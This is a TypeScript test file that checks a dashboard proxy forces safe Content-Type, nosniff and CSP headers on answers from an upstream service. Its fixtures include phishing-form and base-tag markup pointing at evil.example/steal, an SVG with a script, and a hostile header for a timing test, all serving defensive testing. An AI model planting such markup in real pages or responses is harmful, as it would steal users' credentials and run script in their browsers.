import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { declaresJson } from "./proxy.ts";
import { startServer } from "./server.ts";
import { proxyTestConfig, rawRequest } from "./test-helpers.ts";

// Issue 15, item 1: whatever DLI (or anything between it and us) says its answer is, the
// browser gets the dashboard's own Content-Type for it, never markup, with nosniff and a CSP
// that stops a rendered answer from running, framing or submitting anything.

const PROJECT = "0a1b2c3d4e5f40718293a4b5c6d7e8f9";
const LIST = `/v2.0/${PROJECT}/gene/jobs`;
const JSON_TYPE = "application/json; charset=utf-8";
const TEXT_TYPE = "text/plain; charset=utf-8";
/** Valid JSON that is also a page, should a browser take it for HTML. */
const JSON_WITH_MARKUP = JSON.stringify({
  job_count: 1,
  jobs: [
    {
      job_id: "c0619372-983d-4861-9133-69a518fca074",
      message:
        '<form action="https://evil.example/steal" method="post"><input name="q"><button>Sign in again</button></form><base href="https://evil.example/">',
    },
  ],
});
const HTML = '<!doctype html><form action="https://evil.example/steal"><button>go</button></form>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const BODIES = { "JSON with a form in it": JSON_WITH_MARKUP, "an HTML page": HTML, "an SVG": SVG };
type BodyName = keyof typeof BODIES;

let answer: { type: string | undefined; body: string; status?: number };
let upstream: Server;
let proxy: { url: string; close: () => Promise<void> };

beforeAll(async () => {
  upstream = createServer((_req: IncomingMessage, res: ServerResponse) => {
    // No Content-Type at all when `type` is undefined (Node adds none of its own).
    if (answer.type !== undefined) res.setHeader("Content-Type", answer.type);
    res.writeHead(answer.status ?? 200);
    res.end(answer.body);
  });
  await new Promise<void>((done) => upstream.listen(0, "127.0.0.1", done));
  const port = (upstream.address() as { port: number }).port;
  const config = proxyTestConfig(port, "MIIT-hostile-upstream-token", [PROJECT]);
  proxy = await startServer(config, { log: () => {} });
});

afterAll(async () => {
  await proxy.close();
  const closed = new Promise<void>((done) => upstream.close(() => done()));
  upstream.closeAllConnections();
  await closed;
});

afterEach(() => {
  answer = { type: "application/json", body: "{}" };
});

/** The CSP's directives by name, e.g. `{ "form-action": "'none'" }`. */
function directives(csp: string | undefined): Record<string, string> {
  const out: Record<string, string> = {};
  for (const part of (csp ?? "").split(";")) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) out[name.toLowerCase()] = values.join(" ");
  }
  return out;
}

describe("the dashboard writes its own Content-Type for what DLI answers", () => {
  it.each([
    // [upstream Content-Type, body, what the browser must get]
    ["application/json, text/html", "JSON with a form in it", TEXT_TYPE],
    ["application/json,text/html", "JSON with a form in it", TEXT_TYPE],
    ["application/json text/html", "JSON with a form in it", TEXT_TYPE],
    ["text/html", "an HTML page", TEXT_TYPE],
    ["text/html; charset=utf-8", "JSON with a form in it", TEXT_TYPE],
    ["text/html; charset=utf-8", "an HTML page", TEXT_TYPE],
    ["application/xhtml+xml", "JSON with a form in it", TEXT_TYPE],
    ["application/xhtml+xml", "an HTML page", TEXT_TYPE],
    ["image/svg+xml", "an SVG", TEXT_TYPE],
    ["image/svg+xml", "JSON with a form in it", TEXT_TYPE],
    ["text/xml", "an HTML page", TEXT_TYPE],
    ["text/json", "JSON with a form in it", TEXT_TYPE],
    ["application/jsonp", "JSON with a form in it", TEXT_TYPE],
    ["application/json-seq", "JSON with a form in it", TEXT_TYPE],
    ["application/json; charset", "JSON with a form in it", TEXT_TYPE],
    ['application/json; charset="utf-8', "JSON with a form in it", TEXT_TYPE],
    ["application/json; charset=utf-8, text/html", "JSON with a form in it", TEXT_TYPE],
    ["application/json\ttext/html", "JSON with a form in it", TEXT_TYPE],
    ["application/", "JSON with a form in it", TEXT_TYPE],
    ["json", "JSON with a form in it", TEXT_TYPE],
    ["", "JSON with a form in it", TEXT_TYPE],
    [undefined, "JSON with a form in it", TEXT_TYPE],
    [undefined, "an HTML page", TEXT_TYPE],
    ["application/json", "JSON with a form in it", JSON_TYPE],
    ["application/json;charset=utf-8", "JSON with a form in it", JSON_TYPE],
    ["application/json;charset=UTF-8", "JSON with a form in it", JSON_TYPE],
    ['application/json; charset="utf-8"', "JSON with a form in it", JSON_TYPE],
    ["application/json; charset=gbk", "JSON with a form in it", JSON_TYPE],
    ["application/json;", "JSON with a form in it", JSON_TYPE],
    ["APPLICATION/JSON", "JSON with a form in it", JSON_TYPE],
    ["Application/Json; Charset=UTF-8", "JSON with a form in it", JSON_TYPE],
    ["application/problem+json", "JSON with a form in it", JSON_TYPE],
    ["application/vnd.huawei.dli+JSON; v=2", "JSON with a form in it", JSON_TYPE],
    // Declared JSON is labelled JSON without being parsed: the browser's parser judges it.
    ["application/json", "an HTML page", JSON_TYPE],
  ] satisfies [string | undefined, BodyName, string][])(
    "upstream says %j, sends %s: the browser gets %s",
    async (type, bodyName, expected) => {
      const body = BODIES[bodyName];
      answer = { type, body };
      const res = await rawRequest(proxy.url, LIST);
      expect(res.status).toBe(200);
      expect(res.body).toBe(body);
      expect(res.headers["content-type"]).toBe(expected);
      expect(res.headers["x-content-type-options"]).toBe("nosniff");
    },
  );

  it("keeps an error status and its body, under its own type", async () => {
    answer = { type: "text/html, application/json", body: HTML, status: 502 };
    const res = await rawRequest(proxy.url, LIST);
    expect(res.status).toBe(502);
    expect(res.body).toBe(HTML);
    expect(res.headers["content-type"]).toBe(TEXT_TYPE);
  });
});

describe("an answer opened directly can neither run, frame, nor submit anything", () => {
  it.each([
    ["application/json, text/html", 200],
    ["text/html", 500],
  ])("the CSP on a forwarded answer (%s, %i)", async (type, status) => {
    answer = { type, body: JSON_WITH_MARKUP, status };
    const res = await rawRequest(proxy.url, LIST);
    const csp = directives(res.headers["content-security-policy"]);
    expect(csp["default-src"]).toBe("'none'");
    expect(csp["form-action"]).toBe("'none'");
    expect(csp["base-uri"]).toBe("'none'");
    expect(csp["frame-ancestors"]).toBe("'none'");
    expect(csp).toHaveProperty("sandbox", "");
  });

  it("the same CSP on the server's own API answers and errors", async () => {
    for (const path of ["/api/config", `${LIST}?limit=0`, "/v3/auth/tokens"]) {
      const res = await rawRequest(proxy.url, path);
      const csp = directives(res.headers["content-security-policy"]);
      expect(csp["default-src"], path).toBe("'none'");
      expect(csp["form-action"], path).toBe("'none'");
      expect(res.headers["x-content-type-options"], path).toBe("nosniff");
    }
  });

  it("the app's pages: forms post only to the dashboard, no <base> can move relative URLs", async () => {
    const res = await rawRequest(proxy.url, "/projects/x/jobs");
    const csp = directives(res.headers["content-security-policy"]);
    expect(csp["form-action"]).toBe("'self'");
    expect(csp["base-uri"]).toBe("'none'");
    expect(csp["frame-ancestors"]).toBe("'none'");
    expect(csp["script-src"]).toBe("'self'");
  });
});

describe("declaresJson", () => {
  it("reads one media type, in linear time on a hostile header", () => {
    expect(declaresJson(" application/json ")).toBe(true);
    expect(declaresJson('application/json; a=b; c="d;e, f"')).toBe(true);
    expect(declaresJson("application/json; a=b c")).toBe(false);
    // Many empty parameters and gaps, then a character that makes it fail at the very end.
    const hostile = `application/json${"; \t ".repeat(3000)},`;
    const started = performance.now();
    expect(declaresJson(hostile)).toBe(false);
    expect(declaresJson(`application/json${'; a="\\"'.repeat(2000)}`)).toBe(false);
    expect(performance.now() - started).toBeLessThan(500);
  });
});
